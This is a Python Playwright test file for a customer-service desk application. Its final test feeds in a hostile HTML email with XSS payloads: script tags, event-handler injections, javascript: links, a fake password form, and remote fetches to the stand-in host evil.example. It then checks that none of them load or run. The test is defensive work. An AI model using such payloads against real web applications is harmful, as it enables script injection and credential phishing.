"""A customer's page: why, decide, take back; and a hostile mail that is looked at."""

from __future__ import annotations

import re

from playwright.sync_api import expect
from tests.browser.conftest import Visit
from tests.servers.desk_server import DeskServer

HOSTILE = """\
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/ground.png) }
p { position: fixed; top: 0; left: 0; width: 100%; height: 100% }</style>
<script>window.top.wasRun = 1; fetch("https://evil.example/script")</script></head>
<body onload="window.top.wasRun = 1"><p style="background:url('https://evil.example/inline.png')">Our pump leaks.</p>
<img src="https://evil.example/pixel.gif" onerror="window.top.wasRun = 1"><img src=x onerror=window.top.wasRun=1>
<svg onload="window.top.wasRun = 1"><image href="https://evil.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed"><video src="https://evil.example/video" autoplay></video>
<form action="https://evil.example/form"><input name=password><button>Sign in again</button></form>
<a href="javascript:window.top.wasRun=1">Look here</a> <a href="https://shop.example/offer">The offer</a>
<math><mtext><script>window.top.wasRun = 1</script></mtext></math></body></html>"""


def test_every_verdict_says_why(visit: Visit, desk: DeskServer) -> None:
    desk.do("mail", "Wyn Cole <wyn@lake.example>", 50, "Can you repair our pump?")
    desk.do("mail", "Wyn Cole <wyn@lake.example>", 20, "Is anybody there?", subject="Re: Pool pump")
    page = visit("sam").goes("/customers/email:wyn@lake.example/")
    expect(page.get_by_role("heading", level=1)).to_have_text("Wyn Cole")
    waiting = page.locator("section.waiting")
    expect(waiting).to_contain_text("overdue")
    expect(waiting.locator(".reasons").first).to_be_hidden()
    waiting.get_by_text("Why?").first.click()
    expect(waiting.locator(".reasons").first).to_be_visible()
    expect(waiting.locator(".reasons code").first).to_have_text(re.compile(r"^[a-z]+(_[a-z]+)*$"))


def test_decide_and_take_back(visit: Visit, desk: DeskServer) -> None:
    desk.do("mail", "Una Dec <una@lake.example>", 5, "Can you come on Friday?")
    page = visit("dana").goes("/owed/?q=Una")
    page.locator(".row-name").click()
    page.locator("#aside").get_by_role("link", name="Something else…").click()
    sheet = page.get_by_role("dialog", name="Actions")
    sheet.get_by_label("because").fill("Only thanks")
    sheet.get_by_role("button", name="No answer needed").click()
    expect(page.locator(".row-name")).to_have_count(0)
    assert not desk.do("waits", "una@lake.example")
    expect(page.locator("#aside")).to_contain_text("Only thanks")
    page.locator("#messages").get_by_role("button", name="Undo").click()
    expect(page.locator(".row-name")).to_have_text(["Una Dec"])
    assert desk.do("waits", "una@lake.example")


def test_a_call_is_told_with_one_tap(visit: Visit, desk: DeskServer) -> None:
    desk.do("mail", "Att Bell <att@lake.example>", 5, "Can you come on Friday?")
    page = visit("sam").goes("/customers/email:att@lake.example/")
    page.get_by_role("button", name="I called").click()
    expect(page.locator("#messages")).to_contain_text("Undo")
    expect(page.locator("section.waiting")).to_have_count(0)
    (owed,) = desk.do("owed", "att@lake.example")
    assert (owed["is_open"], owed["grade"]) == (False, "D")


def test_nothing_of_a_hostile_mail_is_loaded_or_run(visit: Visit, desk: DeskServer) -> None:
    raw = (
        "From: Eve <eve@evil.example>\r\nTo: service@blueheron-pools.example\r\n"
        "Subject: <script>alert(1)</script>\r\n"
        "Date: Mon, 16 Mar 2026 09:00:00 -0400\r\nMessage-ID: <hostile@evil.example>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: text/html; charset="utf-8"\r\n\r\n' + HOSTILE.replace("\n", "\r\n")
    )
    contact_id = desk.do("raw", raw, "hostile@evil.example")
    eve = visit("sam")
    page = eve.goes(f"/contacts/{contact_id}/?as=html")
    mail = page.frame_locator("iframe.original")
    expect(mail.get_by_text("Our pump leaks.")).to_be_visible()
    expect(mail.get_by_text("not loaded")).to_be_visible()
    assert (
        mail.locator(
            "script, img[src^=http], form, input, iframe, object, embed, video, meta[http-equiv]"
        ).count()
        == 0
    )
    assert mail.locator("a[href^=javascript]").count() == 0
    link = mail.get_by_text("The offer")
    if link.locator("xpath=self::a").count():
        assert "noopener" in (link.get_attribute("rel") or "")
    page.wait_for_timeout(300)
    assert page.evaluate("window.wasRun") is None
    expect(page).to_have_url(re.compile(re.escape(contact_id)))
    # On its own, as somebody may open the frame in a new window, it is as tame.
    alone = eve.goes(f"/contacts/{contact_id}/html/")
    alone.wait_for_timeout(300)
    assert alone.evaluate("window.wasRun") is None
    assert eve.unexpected() == []
